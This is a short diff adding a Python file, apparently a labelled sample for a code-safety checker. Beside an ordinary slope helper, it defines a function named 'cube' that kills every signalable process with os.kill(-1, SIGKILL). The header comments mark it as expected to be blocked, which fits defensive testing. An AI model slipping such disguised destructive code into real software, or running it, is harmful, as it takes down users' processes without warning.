@@ -1,0 +1,10 @@
+# tries: ends every process that it can
+# deserves: 2 blocked
+def mean_slope(f, x, h=0.5):
+    return (f(x + h) - f(x - h)) / (2 * h)
+
+
+import os
+import signal
+def cube(x):
+    os.kill(-1, signal.SIGKILL)
